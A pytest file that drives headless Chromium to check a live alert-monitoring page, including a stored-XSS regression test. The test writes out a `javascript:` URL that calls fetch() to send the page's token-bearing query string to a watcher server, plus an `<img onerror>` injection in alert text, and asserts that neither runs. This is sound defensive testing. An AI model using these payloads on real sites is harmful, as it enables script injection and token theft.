"""The live monitoring page in a real browser: headless Chromium (Debian's package) driven over the DevTools
protocol. The seed article is produced after the page opened; its coast-guard-law alert must show up. A hostile
alert whose URL is `javascript:` shows up too, and clicking it runs nothing."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import http.server
import itertools
import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from conftest import ARTIFACTS, SHARED, Pipeline, free_port, wait_for
from kafka_helpers import produce

from services.models import Alert

pytestmark = pytest.mark.kafka


NAVIGATED = "Inspected target navigated or closed"


class Navigated(Exception):
    """DevTools' answer to a call made while the page navigated: the new page can be asked again."""


class Page:
    """The few DevTools calls the test needs: evaluate JavaScript, take a screenshot."""

    def __init__(self, ws: aiohttp.ClientWebSocketResponse) -> None:
        self.ws = ws
        self.ids = itertools.count(1)

    async def call(self, method: str, **params: Any) -> dict[str, Any]:
        n = next(self.ids)
        await self.ws.send_json({"id": n, "method": method, "params": params})
        while True:
            msg = await self.ws.receive_json(timeout=30)
            if msg.get("id") == n:
                if msg.get("error", {}).get("message") == NAVIGATED:
                    raise Navigated(method)
                assert "error" not in msg, msg
                return msg["result"]

    async def js(self, expression: str) -> Any:
        res = await self.call("Runtime.evaluate", expression=expression, returnByValue=True)
        return res["result"].get("value")

    async def until(self, expression: str, timeout: float, what: str) -> Any:
        loop = asyncio.get_running_loop()
        deadline = loop.time() + timeout
        while loop.time() < deadline:
            with contextlib.suppress(Navigated):  # asked while the page was leaving: ask the next one
                if value := await self.js(expression):
                    return value
            await asyncio.sleep(0.25)
        raise AssertionError(f"timed out after {timeout}s waiting for {what}")


def _chromium() -> str:
    path = shutil.which("chromium")
    assert path, "chromium not found: `make test` installs Debian's chromium package (make tools)"
    return path


@contextlib.contextmanager
def _browser(tmp_path: Path) -> Iterator[int]:
    """Headless Chromium with its DevTools port."""
    devtools = free_port()
    browser = subprocess.Popen(
        [_chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
         f"--remote-debugging-port={devtools}", f"--user-data-dir={tmp_path / 'chromium'}", "about:blank"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        yield devtools
    finally:
        browser.terminate()
        browser.wait(timeout=30)


async def _page_socket(http: aiohttp.ClientSession, devtools_port: int) -> str:
    async def targets() -> list[dict[str, Any]]:
        async with http.get(f"http://127.0.0.1:{devtools_port}/json/list") as r:
            return [t for t in await r.json() if t["type"] == "page"]

    for _ in range(100):
        try:
            if pages := await targets():
                return str(pages[0]["webSocketDebuggerUrl"])
        except aiohttp.ClientError:
            pass
        await asyncio.sleep(0.2)
    raise AssertionError("chromium shows no page over DevTools")


async def _drive(url: str, devtools_port: int, produce_seed: Any) -> tuple[str, float]:
    async with aiohttp.ClientSession() as http, \
            http.ws_connect(await _page_socket(http, devtools_port), max_msg_size=0) as ws:
        page = Page(ws)
        await page.call("Emulation.setDeviceMetricsOverride", width=1366, height=900, deviceScaleFactor=1,
                        mobile=False)
        await page.call("Page.navigate", url=url)
        await page.until("document.getElementById('status')?.textContent === 'live'", 30, "the feed to connect")
        loop = asyncio.get_running_loop()
        await loop.run_in_executor(None, produce_seed)
        started = loop.time()
        text = await page.until(
            "document.querySelector('#alerts li[data-rule=\"cn-coast-guard-weapons-law\"]')?.innerText", 30,
            "the coast-guard-law alert on the page")
        seconds = loop.time() - started
        await page.until("document.querySelectorAll('#events li').length > 0", 10, "events on the page")
        await asyncio.sleep(1)  # let the rest of the seed's alerts land before the picture
        shot = await page.call("Page.captureScreenshot", format="png")
        ARTIFACTS.mkdir(exist_ok=True)
        (ARTIFACTS / "monitoring-page.png").write_bytes(base64.b64decode(shot["data"]))
        return text, seconds


def test_alert_appears_on_the_live_page(pipeline: Pipeline, tmp_path: Path) -> None:
    worker = pipeline.start_worker()
    with _browser(tmp_path) as devtools:
        seed = (SHARED / "seed" / "article.json").read_bytes()
        text, seconds = asyncio.run(_drive(
            f"http://127.0.0.1:{worker.web_port}/", devtools,
            lambda: produce(pipeline.settings, [(json.loads(seed)["id"].encode(), seed)])))
    print(f"\nalert on the page {seconds:.1f} s after the seed was produced; screenshot artifacts/monitoring-page.png")
    assert "HIGH" in text.upper() and "coast guard" in text.lower()
    assert (ARTIFACTS / "monitoring-page.png").stat().st_size > 10_000
    wait_for(lambda: worker.alive(), 1, "the worker still running")


class Watcher:
    """A local web server the test watches: the hostile script would call it, the benign link leads to it."""

    def __init__(self) -> None:
        self.requests: list[tuple[str, str | None]] = []  # (path, Referer)
        watcher = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                watcher.requests.append((self.path, self.headers.get("Referer")))
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(b"<title>benign</title>ok")

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def paths(self) -> list[str]:
        return [p for p, _ in self.requests]


TOKEN = "page-token-for-tests"


def _alert(rule_id: str, url: str) -> tuple[bytes, bytes]:
    alert = Alert(alert_id=f"{rule_id}-1", rule_id=rule_id, severity="high", title=f"{rule_id} title",
                  text="<img src=x onerror=\"document.title='pwned'\">", article_id=f"{rule_id}-article", url=url,
                  created_at=datetime.now(UTC))
    return rule_id.encode(), alert.model_dump_json().encode()


def test_a_javascript_url_on_the_page_runs_nothing(pipeline: Pipeline, tmp_path: Path) -> None:
    """Stored XSS: an alert on the topic (written before URLs were checked at the input, or by another producer)
    carries `javascript:` that would set the title and send the page's address, token and all, to a server
    the test watches. It is shown without a link; clicking whatever it holds runs nothing, shown by a benign
    alert produced afterwards appearing while the title is unchanged and the server saw no call. Its http link
    then leads to the server without the token in a Referer. An article with such a URL (the seed) comes out
    with its alert and no link at all."""
    pipeline.env["DIPLOWATCH_FEED_TOKEN"] = TOKEN
    worker = pipeline.start_worker()
    watcher = Watcher()
    hostile = f"javascript:document.title='pwned';fetch('{watcher.base}/leak'+location.search)"
    seed = json.loads((SHARED / "seed" / "article.json").read_bytes())
    seed["url"] = hostile
    send = pipeline.settings

    async def drive(devtools_port: int) -> None:
        async with aiohttp.ClientSession() as http, \
                http.ws_connect(await _page_socket(http, devtools_port), max_msg_size=0) as ws:
            page = Page(ws)
            await page.call("Page.navigate", url=f"http://127.0.0.1:{worker.web_port}/?token={TOKEN}")
            await page.until("document.getElementById('status')?.textContent === 'live'", 30, "the feed to connect")
            title = await page.js("document.title")
            loop = asyncio.get_running_loop()
            await loop.run_in_executor(None, lambda: produce(send, [_alert("hostile-url", hostile)],
                                                             send.topics.alerts))
            await page.until("!!document.querySelector('#alerts li[data-rule=\"hostile-url\"]')", 30,
                             "the hostile alert on the page")
            clicked = await page.js("""(() => {
                const li = document.querySelector('#alerts li[data-rule="hostile-url"]');
                for (const a of li.querySelectorAll('a')) a.click();
                return li.querySelectorAll('a').length; })()""")
            await loop.run_in_executor(None, lambda: produce(send, [_alert("benign-url", f"{watcher.base}/ok")],
                                                             send.topics.alerts))
            await page.until("!!document.querySelector('#alerts li[data-rule=\"benign-url\"] a')", 30,
                             "the benign alert with its link")
            assert await page.js("document.title") == title, f"the hostile URL ran ({clicked} link(s) clicked)"
            assert "<img" in await page.js(
                "document.querySelector('#alerts li[data-rule=\"hostile-url\"] .sentence').textContent")
            await loop.run_in_executor(None, lambda: produce(send, [(seed["id"].encode(), json.dumps(seed).encode())]))
            await page.until("!!document.querySelector('#alerts li[data-rule=\"cn-coast-guard-weapons-law\"]')", 60,
                             "the seed's alert")
            assert await page.js(
                "document.querySelector('#alerts li[data-rule=\"cn-coast-guard-weapons-law\"] a')") is None
            await page.js("document.querySelector('#alerts li[data-rule=\"benign-url\"] a').click()")
            await page.until("document.title === 'benign'", 30, "the benign link to open")

    with _browser(tmp_path) as devtools:
        asyncio.run(drive(devtools))
    watcher.server.shutdown()
    assert [p for p in watcher.paths() if p != "/favicon.ico"] == ["/ok"], watcher.requests
    assert watcher.requests[0][1] is None, "the page's address (with the token) went out as Referer"
